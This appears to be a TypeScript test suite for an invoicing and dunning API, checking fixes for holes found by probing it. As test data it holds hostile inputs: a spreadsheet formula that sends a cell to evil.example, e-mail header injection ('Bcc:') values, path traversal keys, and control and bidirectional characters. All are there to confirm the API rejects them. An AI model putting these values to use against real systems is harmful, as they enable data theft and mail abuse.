import { SFNClient, StopExecutionCommand } from '@aws-sdk/client-sfn';
import {
  DeleteCommand,
  DynamoDBDocumentClient,
  GetCommand,
  PutCommand,
  QueryCommand,
  TransactWriteCommand,
} from '@aws-sdk/lib-dynamodb';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import { setClock } from '../../../functions/adapters/clock';
import { customerItem, invoiceItem } from '../../../functions/adapters/db/items';
import { StoredTransaction, transactionItem } from '../../../functions/adapters/db/transactions';
import { fixedClock } from '../../../functions/core/dates';
import { builtInPolicies } from '../../../functions/core/dunning/policy';
import { Customer, type Invoice, MAX_AMOUNT_CENTS } from '../../../functions/core/model';
import { apiEnv, makeCaller, problemType } from './support';

/** Holes found by probing the API (issue 11, point 10), each closed. */
apiEnv();
const ddb = mockClient(DynamoDBDocumentClient);
const sfn = mockClient(SFNClient);
const api = await import('../../../functions/api/handler');
const call = makeCaller(api.handler as never, () => api.openApiDocument() as never);

const inv = (id: string, over: Partial<Invoice> = {}): Invoice => ({
  invoiceId: id,
  customerId: 'C1',
  amountCents: 10000,
  openCents: 10000,
  currency: 'EUR',
  issueDate: '2026-09-01',
  dueDate: '2026-10-01',
  status: 'open',
  version: 1,
  ...over,
});
const fields = (res: { json: { errors?: { in: string; field: string }[] } }) =>
  (res.json.errors ?? []).map((e) => `${e.in}:${e.field}`);

beforeEach(() => {
  ddb.reset();
  sfn.reset();
  sfn.on(StopExecutionCommand).resolves({ stopDate: new Date() });
  setClock(fixedClock('2026-11-23T09:00:00.000Z'));
});

function givenLedger(customers: Customer[], invoices: Invoice[]) {
  ddb
    .on(QueryCommand, { IndexName: 'gsi2', ExpressionAttributeValues: { ':pk': 'CUSTOMERS' } })
    .resolves({ Items: customers.map(customerItem) });
  for (const status of ['open', 'partially_paid', 'in_collection']) {
    ddb
      .on(QueryCommand, { ExpressionAttributeValues: { ':pk': `INVSTATUS#${status}` } })
      .resolves({ Items: invoices.filter((i) => i.status === status).map(invoiceItem) });
  }
}

describe('the aged balance CSV, which the read-only role downloads', () => {
  it('comes out with formula-looking names as text, not formulas', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Détails")', '+33123', '@SUM(1+1)', '-1+2'];
    givenLedger(
      names.map((name, i) => Customer.parse({ customerId: `C${i}`, name })),
      names.map((_, i) => inv(`F${i}`, { customerId: `C${i}`, openCents: 1000 * (i + 1) })),
    );
    const res = await call('GET', '/reports/aged-balance', {
      as: 'readonly',
      query: { asOf: '2026-11-23', format: 'csv' },
    });
    expect(res.status).toBe(200);
    const lines = res.text.split('\r\n');
    expect(lines).toContain(`C3;'-1+2;1;0,00;0,00;40,00;0,00;0,00;40,00;0,00;EUR;2026-11-23`);
    expect(lines).toContain(
      `C0;"'=HYPERLINK(""http://evil.example/?""&A1,""Détails"")";1;0,00;0,00;10,00;0,00;0,00;10,00;0,00;EUR;2026-11-23`,
    );
    for (const line of lines.slice(1)) expect(line.split(';')[1] ?? '').not.toMatch(/^"?[=+\-@]/);
  });

  it('answers even when the amounts add up past 2^53 cents (it answered 500 to everyone)', async () => {
    const many = Array.from({ length: 901 }, (_, i) =>
      inv(`F${i}`, { amountCents: MAX_AMOUNT_CENTS, openCents: MAX_AMOUNT_CENTS }),
    );
    givenLedger([Customer.parse({ customerId: 'C1', name: 'Big' })], many);
    const res = await call('GET', '/reports/aged-balance', { query: { asOf: '2026-11-23', format: 'csv' } });
    expect(res.status).toBe(200);
    expect(res.text).toContain('TOTAL;;901;');
  });
});

describe('amounts are bounded at 10^13 cents (€100 bn) on every money input', () => {
  it.each([
    [
      'POST',
      '/invoices',
      'body:amountCents',
      { invoiceId: 'F9', customerId: 'C1', amountCents: 2 ** 53 - 1, issueDate: '2026-11-01', dueDate: '2026-11-30' },
    ],
    ['POST', '/invoices/F1/write-off', 'body:amountCents', { amountCents: MAX_AMOUNT_CENTS + 1, reason: 'x' }],
    ['POST', '/invoices/F1/credit-note', 'body:amountCents', { creditNoteId: 'AV1', amountCents: 2 ** 53 - 1 }],
    ['POST', '/customers', 'body:creditLimitCents', { customerId: 'C9', name: 'X', creditLimitCents: 2 ** 53 - 1 }],
    [
      'POST',
      '/transactions/T1/match',
      'body:allocations.0.amountCents',
      { allocations: [{ invoiceId: 'F1', amountCents: 2 ** 53 - 1 }] },
    ],
    [
      'POST',
      '/transactions/T1/match',
      'body:writeOffCents',
      { allocations: [{ invoiceId: 'F1', amountCents: 100 }], writeOffCents: MAX_AMOUNT_CENTS + 1 },
    ],
  ])('%s %s refuses an unrealistic amount naming %s', async (method, path, field, body) => {
    const res = await call(method, path, { body });
    expect(res.status).toBe(400);
    expect(fields(res)).toContain(field);
    expect(ddb.commandCalls(TransactWriteCommand)).toHaveLength(0);
  });

  it('a policy step threshold too', async () => {
    const { version: _v, ...standard } = builtInPolicies[0];
    const steps = standard.steps.map((s, i) => (i === 0 ? { ...s, conditions: { minOpenCents: 2 ** 53 - 1 } } : s));
    const res = await call('POST', '/policies', { body: { ...standard, policyId: 'big', steps } });
    expect(res.status).toBe(400);
    expect(fields(res)).toContain('body:steps.0.conditions.minOpenCents');
  });
});

describe('a customer time zone is one the runtime knows', () => {
  it('refuses Mars/Olympus at creation, naming the field', async () => {
    const res = await call('POST', '/customers', {
      body: { customerId: 'C9', name: 'Martien SARL', timeZone: 'Mars/Olympus' },
    });
    expect(res.status).toBe(400);
    expect(fields(res)).toEqual(['body:timeZone']);
    expect(ddb.commandCalls(PutCommand)).toHaveLength(0);
  });

  it('refuses it in a change too', async () => {
    ddb
      .on(GetCommand)
      .resolves({ Item: customerItem(Customer.parse({ customerId: 'C1', name: 'Dupont', version: 1 })) });
    const res = await call('PATCH', '/customers/C1', {
      body: { timeZone: 'Mars/Olympus' },
      headers: { 'if-match': '"v1"' },
    });
    expect(res.status).toBe(400);
    expect(fields(res)).toEqual(['body:timeZone']);
  });

  it('accepts an overseas zone', async () => {
    ddb.on(PutCommand).resolves({});
    const res = await call('POST', '/customers', {
      body: { customerId: 'C9', name: 'Rhum SARL', timeZone: 'America/Martinique' },
    });
    expect(res.status).toBe(201);
  });
});

describe('ids and names never carry a line break into an e-mail subject', () => {
  it.each([
    [
      'POST',
      '/invoices',
      'body:invoiceId',
      {
        invoiceId: 'F1\r\nBcc: all@evil.example',
        customerId: 'C1',
        amountCents: 100,
        issueDate: '2026-11-01',
        dueDate: '2026-11-30',
      },
    ],
    [
      'POST',
      '/invoices',
      'body:customerId',
      { invoiceId: 'F1', customerId: 'C1\u0000', amountCents: 100, issueDate: '2026-11-01', dueDate: '2026-11-30' },
    ],
    [
      'POST',
      '/invoices',
      'body:customerName',
      {
        invoiceId: 'F1',
        customerId: 'C1',
        customerName: 'Dupont\r\nSubject: payé',
        amountCents: 100,
        issueDate: '2026-11-01',
        dueDate: '2026-11-30',
      },
    ],
    ['POST', '/customers', 'body:customerId', { customerId: 'C\n9', name: 'X' }],
    ['POST', '/customers', 'body:name', { customerId: 'C9', name: 'X\u2028Y' }],
    [
      'POST',
      '/customers',
      'body:contacts.0.name',
      { customerId: 'C9', name: 'X', contacts: [{ name: 'Anne\nBcc: x', email: 'anne@pme.fr' }] },
    ],
    ['POST', '/invoices/F1/credit-note', 'body:creditNoteId', { creditNoteId: 'AV\t1', amountCents: 100 }],
    [
      'POST',
      '/transactions/T1/match',
      'body:allocations.0.invoiceId',
      { allocations: [{ invoiceId: 'F1\n', amountCents: 100 }] },
    ],
  ])('%s %s refuses a control character naming %s', async (method, path, field, body) => {
    const res = await call(method, path, { body });
    expect(res.status).toBe(400);
    expect(fields(res)).toContain(field);
  });

  it.each([
    ['/invoices/F1%0D%0ABcc%3A%20x/pause', 'path:invoiceId'],
    ['/customers/C1%0A', 'path:customerId'],
    ['/transactions/T1%00/reject', 'path:transactionId'],
  ])('refuses a path id with a control character (%s)', async (path, field) => {
    const res = await call(path.startsWith('/customers') ? 'GET' : 'POST', path, {
      body: path.endsWith('pause') ? {} : undefined,
    });
    expect(res.status).toBe(400);
    expect(fields(res)).toContain(field);
  });

  it('an import row whose invoice id holds a line break is rejected with its reason', async () => {
    const csv =
      'invoice_id,customer_id,customer_name,customer_iban,amount,currency,issue_date,due_date\r\n"F1\r\nBcc: ' +
      'x",C1,Dupont,,10.00,EUR,2026-11-01,2026-11-30\r\n';
    const res = await call('POST', '/invoices/import', { rawBody: csv, headers: { 'content-type': 'text/csv' } });
    expect(res.status).toBe(200);
    expect(res.json.rows[0]).toMatchObject({ line: 2, outcome: 'rejected' });
    expect(res.json.rows[0].reason).toContain('invoice_id');
  });
});

describe('finance’s notes and reasons, kept in the invoice history as evidence', () => {
  it.each([
    ['/invoices/F1/dispute', 'note', { note: 'quantités\u0000' }],
    ['/invoices/F1/promise', 'note', { until: '2026-12-15', note: 'virement \u202e5102 reçu' }],
    ['/invoices/F1/pause', 'note', { note: 'appel\u001b[2J' }],
    ['/invoices/F1/resume', 'note', { note: 'réglé\u0085' }],
    ['/invoices/F1/restart-dunning', 'note', { note: 'relance\u2066' }],
    ['/invoices/F1/write-off', 'reason', { reason: 'client \u202eliquidé' }],
    ['/invoices/F1/credit-note', 'reason', { creditNoteId: 'AV1', amountCents: 100, reason: 'remise\u007f' }],
  ])(
    'POST %s refuses a control or bidirectional character in its %s, and changes nothing',
    async (path, field, body) => {
      const res = await call('POST', path, { body });
      expect(res.status).toBe(400);
      expect(fields(res)).toEqual([`body:${field}`]);
      expect(res.json.detail).toMatch(new RegExp(`^${field}: a (bidirectional )?control character \\(U\\+`));
      expect(ddb.commandCalls(TransactWriteCommand)).toHaveLength(0);
      expect(ddb.commandCalls(PutCommand)).toHaveLength(0);
    },
  );

  it('keeps a note over several lines, as a person writes it', async () => {
    ddb.on(GetCommand).resolves({ Item: invoiceItem(inv('F1')) });
    ddb.on(TransactWriteCommand).resolves({});
    const note = 'Échéancier convenu au téléphone :\r\n- 50 € le 15\n- le reste\tle 30';
    const res = await call('POST', '/invoices/F1/pause', { body: { note } });
    expect(res.status).toBe(200);
    expect(res.json.invoice.pause.note).toBe(note);
  });
});

describe('changes to versioned resources need If-Match', () => {
  const standard = builtInPolicies.find((p) => p.policyId === 'standard')!;
  const { policyId: _p, version: _v, ...policyBody } = standard;
  const rates = {
    ecbMro: [{ from: '2026-06-10', rateBp: 200 }],
    ecbMroKnownThrough: '2026-07-01',
    legalRate: [],
    source: 'BCE communiqué du 5 juin 2026',
  };

  it.each([
    ['PUT', '/customers/C1', { name: 'Dupont SA' }],
    ['PATCH', '/customers/C1', { paymentTermsDays: 60 }],
    ['PUT', '/policies/standard', policyBody],
    ['PUT', '/rates', rates],
  ])('%s %s without If-Match is a 428 with a stable type, and changes nothing', async (method, path, body) => {
    ddb
      .on(GetCommand)
      .resolves({ Item: customerItem(Customer.parse({ customerId: 'C1', name: 'Dupont', version: 1 })) });
    ddb.on(QueryCommand).resolves({ Items: [] });
    const res = await call(method, path, { body });
    expect(res.status).toBe(428);
    expect(res.headers['content-type']).toBe('application/problem+json');
    expect(problemType(res)).toBe('precondition-required');
    expect(fields(res)).toEqual(['header:if-match']);
    expect(ddb.commandCalls(PutCommand)).toHaveLength(0);
    expect(ddb.commandCalls(TransactWriteCommand)).toHaveLength(0);
  });

  it('the OpenAPI document says so: If-Match required and a 428 answer on each', () => {
    const doc = api.openApiDocument() as {
      paths: Record<
        string,
        Record<
          string,
          { parameters?: { name: string; in: string; required: boolean }[]; responses: Record<string, unknown> }
        >
      >;
    };
    for (const [path, method] of [
      ['/customers/{customerId}', 'put'],
      ['/customers/{customerId}', 'patch'],
      ['/policies/{policyId}', 'put'],
      ['/rates', 'put'],
    ]) {
      const op = doc.paths[path][method];
      expect(
        op.parameters?.find((p) => p.name === 'If-Match'),
        `${method} ${path}`,
      ).toMatchObject({ in: 'header', required: true });
      expect(Object.keys(op.responses), `${method} ${path}`).toContain('428');
    }
    // Commands on an invoice are applied to its current version under a conditional write: If-Match stays optional.
    expect(doc.paths['/invoices/{invoiceId}/pause'].post.parameters?.find((p) => p.name === 'If-Match')).toMatchObject({
      required: false,
    });
  });

  it('If-Match: * replaces whatever is current (the rate table before its first save has no ETag)', async () => {
    ddb.on(GetCommand).resolves({});
    ddb.on(PutCommand).resolves({});
    const res = await call('PUT', '/rates', { body: rates, headers: { 'if-match': '*' } });
    expect(res.status).toBe(200);
  });
});

describe('a manual match', () => {
  it(
    'listing the same invoice twice is a 400 naming the second entry, before anything is read or ' + 'written',
    async () => {
      const res = await call('POST', '/transactions/T1/match', {
        body: {
          allocations: [
            { invoiceId: 'F1', amountCents: 5000 },
            { invoiceId: 'F2', amountCents: 100 },
            { invoiceId: 'F1', amountCents: 5000 },
          ],
        },
      });
      expect(res.status).toBe(400);
      expect(fields(res)).toEqual(['body:allocations.2.invoiceId']);
      expect(res.json.detail).toContain('already at allocations.0');
      expect(ddb.commandCalls(GetCommand)).toHaveLength(0);
      expect(ddb.commandCalls(TransactWriteCommand)).toHaveLength(0);
    },
  );

  it('still applies a match listing distinct invoices', async () => {
    const txn = StoredTransaction.parse({
      transactionId: 'T1',
      statementChecksum: 'abc',
      account: { iban: 'FR7630006000011234567890189' },
      status: 'suggested',
      version: 1,
      ingestedAt: '2026-11-02T06:00:00.000Z',
      index: 0,
      bookingDate: '2026-11-02',
      amountCents: 10000,
      currency: 'EUR',
      label: 'VIR SEPA DUPONT',
      remittance: {},
      match: { transactionId: 'T1', status: 'suggested', confidence: 0.7, reasons: [], suggestions: [] },
    });
    ddb.on(GetCommand, { Key: { pk: 'TXN#T1', sk: 'TXN' } }).resolves({ Item: transactionItem(txn) });
    ddb
      .on(GetCommand, { Key: { pk: 'INVOICE#F1', sk: 'INVOICE' } })
      .resolves({ Item: invoiceItem(inv('F1', { amountCents: 5000, openCents: 5000 })) });
    ddb
      .on(GetCommand, { Key: { pk: 'INVOICE#F2', sk: 'INVOICE' } })
      .resolves({ Item: invoiceItem(inv('F2', { amountCents: 5000, openCents: 5000 })) });
    ddb.on(TransactWriteCommand).resolves({});
    ddb.on(DeleteCommand).resolves({});
    const res = await call('POST', '/transactions/T1/match', {
      body: {
        allocations: [
          { invoiceId: 'F1', amountCents: 5000 },
          { invoiceId: 'F2', amountCents: 5000 },
        ],
      },
    });
    expect(res.status).toBe(200);
  });
});

describe('other free text and dates that reach workflows and e-mails', () => {
  it('an invoice PDF key (linked from reminders) cannot hold a control character', async () => {
    const res = await call('POST', '/invoices', {
      body: {
        invoiceId: 'F9',
        customerId: 'C1',
        amountCents: 100,
        issueDate: '2026-11-01',
        dueDate: '2026-11-30',
        pdfKey: 'invoices/F9\u0000.pdf',
      },
    });
    expect(res.status).toBe(400);
    expect(fields(res)).toEqual(['body:pdfKey']);
  });

  it('an invoice PDF key cannot climb out of invoices/ with a .. segment', async () => {
    for (const pdfKey of ['invoices/../letters/C2/formal-notice-2026-11-01.pdf', 'invoices/./x//F9.pdf']) {
      const body = { invoiceId: 'F9', customerId: 'C1', amountCents: 100, issueDate: '2026-11-01' };
      const res = await call('POST', '/invoices', { body: { ...body, dueDate: '2026-11-30', pdfKey } });
      expect(res.status, pdfKey).toBe(400);
      expect(fields(res)).toEqual(['body:pdfKey']);
    }
  });

  it(
    'a payment promise more than a year away is refused: its workflow would outlive a Standard ' + 'execution',
    async () => {
      ddb.on(GetCommand).resolves({ Item: invoiceItem(inv('F1')) });
      const res = await call('POST', '/invoices/F1/promise', { body: { until: '9999-12-31' } });
      expect(res.status).toBe(400);
      expect(fields(res)).toEqual(['body:until']);
      expect(ddb.commandCalls(TransactWriteCommand)).toHaveLength(0);
    },
  );
});
